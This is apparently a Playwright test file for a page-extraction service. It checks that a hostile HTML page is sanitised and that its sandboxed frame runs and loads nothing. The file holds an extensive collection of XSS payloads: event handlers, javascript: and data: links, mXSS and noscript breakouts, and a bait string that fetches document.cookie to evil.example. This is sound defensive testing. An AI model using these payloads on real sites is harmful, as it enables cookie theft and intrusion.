"""A page that attacks its reader: nothing of it runs, nothing of it loads, nothing leaves the service."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.service.page.site import Site
from tests.service.page.window import Window

pytestmark = pytest.mark.browser

_BAIT = "top.ran=(top.ran||0)+1;parent.ran=1;window.ran=1;fetch('http://evil.example/'+document.cookie)"
_TEXT = "The harbour master counts the boats each evening, writes the number down, and goes home to his supper. "
HOSTILE = f"""<!DOCTYPE html><html><head><title>Harbour</title><script>document.title='{_BAIT[:9]}'</script>
<meta http-equiv=refresh content="0;url=http://evil.example/refresh"><base href="http://evil.example/base/">
<meta http-equiv=Content-Security-Policy content="script-src *">
<link rel=stylesheet href=http://evil.example/style.css><link rel=prefetch href=http://evil.example/prefetch>
<style>@import url(http://evil.example/import.css); body {{ background: url(http://evil.example/ground.png) }}</style>
<script src=http://evil.example/script.js></script><script>{_BAIT}</script></head>
<body onload="{_BAIT}" onpageshow="{_BAIT}" style="background:url(http://evil.example/inline.png)">
<article id="location" class="kept&quot; onmouseover=&quot;{_BAIT}">
<h1 onclick="{_BAIT}">Harbour <script>{_BAIT}</script></h1>
<p>{_TEXT * 3}</p><p onmouseover="{_BAIT}" onfocus="{_BAIT}" tabindex=1 autofocus>{_TEXT * 3}</p>
<p><img src=http://evil.example/pixel.gif onerror="{_BAIT}" alt='"><img src=x onerror={_BAIT}>'>{_TEXT * 2}
<img srcset="http://evil.example/set.png 2x" src="data:image/svg+xml,<svg onload={_BAIT}>"></p>
<p><a href="javascript:{_BAIT}">Run me</a> <a href=" jav&#x09;ascript:{_BAIT}">Run me too</a>
<a href="data:text/html,<script>{_BAIT}</script>">Data</a> <a href="vbscript:x">Old</a>
<a href="//evil.example/away" ping="http://evil.example/ping" target=_top>Away</a> {_TEXT * 2}</p>
<svg onload="{_BAIT}"><script>{_BAIT}</script><a xlink:href="javascript:{_BAIT}"><text>svg</text></a>
<image href="http://evil.example/image.svg"/><use href="http://evil.example/use.svg#a"/></svg>
<math><mtext><mglyph><style><img src=x onerror="{_BAIT}"></style></mglyph></mtext></math>
<iframe src="http://evil.example/frame" srcdoc="<script>{_BAIT}</script>"></iframe>
<object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
<video src="http://evil.example/video" poster="http://evil.example/poster" onerror="{_BAIT}"></video>
<details open ontoggle="{_BAIT}"><summary>{_TEXT}</summary>{_TEXT}</details>
<form action="http://evil.example/form"><input autofocus onfocus="{_BAIT}">
<button formaction="javascript:{_BAIT}">Send</button></form>
<noscript><p title="</noscript><img src=x onerror={_BAIT}>">{_TEXT}</p></noscript>
<template><script>{_BAIT}</script></template><xmp><img src=x onerror="{_BAIT}"></xmp><textarea></textarea>
<script>{_BAIT}</script>
<table background="http://evil.example/table.png"><tr><td onclick="{_BAIT}">{_TEXT}</td></tr></table>
</article></body></html>"""


RAN = """() => [window, ...document.querySelectorAll("iframe")]
  .map((each) => (each.contentWindow ?? each).ran ?? null)"""


def safe(window: Window) -> None:
    """Nothing ran in any frame, nothing was asked of anyone else, the window is where it was."""
    ran = (
        "() => [window, ...document.querySelectorAll('iframe')].map((each) => (each.contentWindow ?? each).ran ?? null)"
    )
    assert set(window.page.evaluate(ran)) == {None}
    assert all(frame.url.startswith((window.address, "about:srcdoc")) for frame in window.page.frames)
    assert window.elsewhere == []


POKE = """() => {
  for (const frame of document.querySelectorAll("iframe")) {
    for (const element of frame.contentDocument.querySelectorAll("*")) {
      for (const kind of ["click", "mouseover", "focus", "error", "load", "toggle"]) {
        element.dispatchEvent(new Event(kind, { bubbles: kind === "mouseover" }));
      }
    }
  }
}"""


@pytest.mark.parametrize("algorithm", ["cetd", "everything"])
def test_nothing_of_a_hostile_page_runs_or_loads(window: Window, algorithm: str) -> None:
    page = window.page
    window.paste(HOSTILE, algorithm)
    expect(window.reading.locator("body")).to_contain_text("The harbour master counts the boats")
    window.view("page")
    expect(window.shaded.locator("body")).to_contain_text("The harbour master counts the boats")
    page.evaluate(POKE)
    for view in ("compare", "plot", "markdown", "html", "json", "reading"):
        window.view(view)
    page.wait_for_timeout(200)  # the refresh of the page would have come by now
    safe(window)
    assert window.errors == []  # not even something that had to be blocked


def test_links_that_run_are_no_links(window: Window) -> None:
    window.paste(HOSTILE, "everything")
    body = window.reading.locator("body")
    expect(body).to_contain_text("Run me too")
    addresses = body.evaluate("body => [...body.querySelectorAll('[href]')].map((link) => link.getAttribute('href'))")
    assert all(address.startswith(("http:", "https:", "mailto:")) for address in addresses)
    for link in window.reading.locator("a[href]").all():
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in (link.get_attribute("rel") or "")


RAW = """async (markup) => {
  const { cleaned } = await import("/page/sanitise.js");
  const { Frame } = await import("/page/frame.js");
  const frame = new Frame(document.getElementById("view-reading"), "reading");
  await frame.ready;
  await frame.fill(cleaned(markup, frame.document, { drawn: %s }));
  const elements = [...frame.document.body.querySelectorAll("*")];
  return {
    tags: [...new Set(elements.map((element) => element.localName))],
    attributes: [...new Set(elements.flatMap((element) => [...element.attributes].map(({ name }) => name)))],
    text: frame.document.body.textContent,
  };
}"""


@pytest.mark.parametrize("drawn", ["true", "false"])
def test_the_page_cleans_what_it_is_given_by_itself(window: Window, drawn: str) -> None:
    """Were the service ever to let something through, it would end here."""
    found = window.page.evaluate(RAW % drawn, HOSTILE)
    assert "The harbour master" in found["text"]
    assert not {"script", "style", "iframe", "img", "svg", "object", "form", "link", "meta", "base"} & set(
        found["tags"]
    )
    allowed = {"href", "target", "rel", "class", "tabindex"}
    assert set(found["attributes"]) <= allowed
    safe(window)
    assert all("Content Security Policy" in error for error in window.errors), window.errors


def test_the_frame_runs_and_loads_nothing_even_uncleaned(window: Window, site: Site) -> None:
    """The lock behind the cleaning: raw markup in the frame."""
    window.page.evaluate(
        """async (markup) => {
          const { Frame } = await import("/page/frame.js");
          const frame = new Frame(document.getElementById("view-reading"), "reading");
          await frame.ready;
          frame.document.body.innerHTML = markup;
        }""",
        f"<img src={site.url} onerror='top.ran=1'><svg onload='top.ran=1'></svg><iframe src={site.url}></iframe>"
        f"<iframe srcdoc='<script>top.ran=1</script>'></iframe><style>@import '{site.url}'</style>"
        f"<link rel=stylesheet href={site.url}><object data={site.url}></object><video src={site.url}></video>",
    )
    window.page.wait_for_timeout(300)
    assert window.page.evaluate("() => window.ran") is None
    assert site.visits == 0
    assert len(window.errors) > 3  # the browser tells what the locks stopped


def test_a_link_cannot_bring_markup_into_the_page(window: Window) -> None:
    bait = "%3Cimg%20src%3Dx%20onerror%3Dtop.ran%3D1%3E"
    window.page.goto(f"{window.address}#url={bait}&algorithm={bait}&type={bait}&view={bait}&against={bait}")
    expect(window.page.get_by_role("alert").filter(visible=True)).to_be_visible()
    assert window.page.evaluate("() => window.ran") is None
    assert window.page.locator("img").count() == 0


def test_nobody_else_is_asked_on_any_visit(window: Window) -> None:
    window.page.wait_for_load_state("networkidle")
    assert window.elsewhere == []
    assert window.errors == []
